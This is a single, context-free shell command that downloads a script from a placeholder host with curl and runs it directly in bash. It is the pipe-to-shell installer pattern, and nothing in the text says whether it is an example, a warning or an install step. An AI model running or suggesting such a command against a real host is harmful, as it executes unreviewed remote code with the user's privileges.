bash <(curl -fsSL https://x.example/i)
